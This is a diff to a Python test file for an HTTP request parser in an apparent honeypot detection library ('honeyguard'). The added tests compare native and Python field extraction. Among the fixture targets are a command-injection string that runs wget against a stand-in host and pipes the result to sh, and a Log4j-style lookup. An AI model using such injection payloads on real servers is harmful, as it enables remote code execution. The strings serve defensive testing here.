@@ -8,6 +8,7 @@ import os
 from collections.abc import Iterator
 from contextlib import contextmanager
 
+import msgspec
 import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
@@ -24,6 +25,7 @@ from honeyguard.detect import (
 )
 from honeyguard.detect.fields import event_subject
 from honeyguard.detect.httpsubject import HttpSubject
+from honeyguard.detect.subject import FIELD_LIMITS
 from honeyguard.model import HttpRequest
 from tests.detect._support import byte_pieces, http_event, swap_all
 
@@ -184,6 +186,7 @@ _TWINS = {
     "split_http": httpsplit.split_http,
     "native_recorded_raw": None,
     "unix_head": httpfields.python_unix_head,
+    "native_recorded_fields": None,
 }
 
 
@@ -289,3 +292,96 @@ def test_a_recorded_request_s_subject_built_natively_is_the_python_subject(
     with _python_only():
         python = _recorded_everything(request)
     assert native == python
+
+
+@settings(max_examples=300, deadline=None)
+@given(_STRINGS, _HEADERS, st.binary(max_size=12), st.sampled_from(["target", "request", "query", "body", "raw"]))
+def test_a_recorded_request_s_fields_asked_in_any_order_are_the_python_ones(
+    target: str, headers: list[tuple[str, str]], body: bytes, first: str
+) -> None:
+    request = HttpRequest(method="GET", target="/" + target, version="HTTP/1.1", headers=headers, body=body)
+    names = (first, "request", "method", "target", "path", "query", "url", "body")
+
+    def asked() -> tuple[object, ...]:
+        subject = event_subject(http_event(request))
+        assert isinstance(subject, HttpSubject)
+        return (*(subject.field(name) for name in names), subject.texts, subject.payload_parts())
+
+    native = asked()
+    with _python_only():
+        assert native == asked()
+
+
+_RECORDED_TARGETS = st.one_of(ODD, st.sampled_from([b"/shell?cd+/tmp;wget+http://a/b;sh", b"http://h", b"x?${a}"]))
+
+
+def _recorded(
+    method: bytes, target: bytes, version: bytes, headers: list[tuple[bytes, bytes]], body: bytes
+) -> HttpRequest:
+    strings = [(name.decode("latin-1"), value.decode("latin-1")) for name, value in headers]
+    line = (method.decode("latin-1"), target.decode("latin-1"), version.decode("latin-1"))
+    return HttpRequest(method=line[0], target=line[1], version=line[2], headers=strings, body=body)
+
+
+@settings(max_examples=800, deadline=None)
+@given(st.sampled_from([b"GET", b"", b"P" * 70]), _RECORDED_TARGETS, st.sampled_from([b"HTTP/1.1", b""]),
+       st.lists(st.tuples(ODD, ODD), max_size=3), st.binary(max_size=8), st.integers(-2, 3))  # fmt: skip
+def test_native_recorded_fields_are_the_python_ones(
+    method: bytes, target: bytes, version: bytes, headers: list[tuple[bytes, bytes]], body: bytes, skew: int
+) -> None:
+    native = httpfields.native_recorded_fields
+    if native is None:
+        assert os.environ.get("CI") != "true"
+        return
+    lines = b"\r\n".join(name + b": " + value for name, value in headers)
+    raw = b"%s %s %s\r\n%s\r\n\r\n%s" % (method, target, version, lines, body)
+    request = _recorded(method, target, version, headers, body)
+    python = httpfields.python_recorded_fields(raw, request)
+    found = native(raw, request)
+    if found is None:  # only a Log4j lookup in a target field is left to the Python
+        assert any(b"${" in field for field in python[3:6])
+    else:
+        assert found == python
+    # a request whose lengths are not raw's: the same answer or None, never a crash
+    other = _recorded(method * max(skew, 0), target[: len(target) + skew], version, headers[skew:], body[skew:])
+    found = native(raw, other)
+    if found is not None:
+        assert found == httpfields.python_recorded_fields(raw, other)
+
+
+def test_native_recorded_fields_refuse_what_they_cannot_read() -> None:
+    native = httpfields.native_recorded_fields
+    if native is None:
+        assert os.environ.get("CI") != "true"
+        return
+    raw = b"GET /a?b+c HTTP/1.1\r\nHost: h\r\n\r\n"
+    request = _recorded(b"GET", b"/a?b+c", b"HTTP/1.1", [(b"Host", b"h")], b"")
+    assert native(raw, request) == (
+        (b"GET", b"/a?b+c", b"HTTP/1.1"),
+        b"GET",
+        b"/a?b+c",
+        b"/a",
+        b"b c",
+        b"/a?b+c",
+        b"GET /a?b+c HTTP/1.1\nHost: h\n\n",
+    )
+    found = native(raw, msgspec.structs.replace(request, body=b"x"))
+    assert found is not None and found[-1] is None  # (a body: its field is the Python's)
+    found = native(raw, msgspec.structs.replace(request, headers=[("Host", "h"), ("A", "b")]))
+    assert found is not None and found[-1] is None  # (a line end count that is not raw's)
+    for odd in ({"target": "/" * len(raw)}, {"body": raw + b"x"}, {"method": b"GET"}, {"headers": ()}):
+        assert native(raw, msgspec.structs.replace(request, **odd)) is None, odd
+    assert native(raw, object()) is None  # type: ignore[arg-type]
+    lookup = b"GET /${a} HTTP/1.1\r\n\r\n\r\n"
+    assert native(lookup, _recorded(b"GET", b"/${a}", b"HTTP/1.1", [], b"")) is None
+    for bad in ((raw.decode(), request), (raw,), (raw, request, 1)):
+        with pytest.raises(TypeError):
+            native(*bad)
+    huge = b"G" * 100 + b" /" + b"a" * 200_000 + b"%41 V\r\n\r\n\r\n"
+    request = _recorded(b"G" * 100, b"/" + b"a" * 200_000 + b"%41", b"V", [], b"")
+    assert native(huge, request) == httpfields.python_recorded_fields(huge, request)
+    huge = b"M" * 200_000 + b" /\xc0\xae V\r\n\r\n\r\n"  # a 'request' field past its limit, cut
+    request = _recorded(b"M" * 200_000, b"/\xc0\xae", b"V", [], b"")
+    found = native(huge, request)
+    assert found == httpfields.python_recorded_fields(huge, request)
+    assert found is not None and found[-1] is not None and len(found[-1]) == FIELD_LIMITS["request"]
